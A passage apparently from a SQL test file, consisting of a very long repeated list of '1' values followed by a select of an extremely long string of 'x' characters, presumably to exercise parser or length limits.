,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1)
select 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx